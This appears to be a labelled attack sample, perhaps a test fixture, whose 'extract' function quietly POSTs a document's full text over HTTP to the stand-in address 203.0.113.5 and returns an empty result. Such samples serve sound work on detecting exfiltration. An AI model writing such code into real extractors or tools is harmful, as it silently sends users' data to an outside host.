# attack: exfiltrate with http.client
from http import client


def extract(doc):
    conn = client.HTTPConnection("203.0.113.5")
    conn.request("POST", "/", body=doc.text)
    return {}
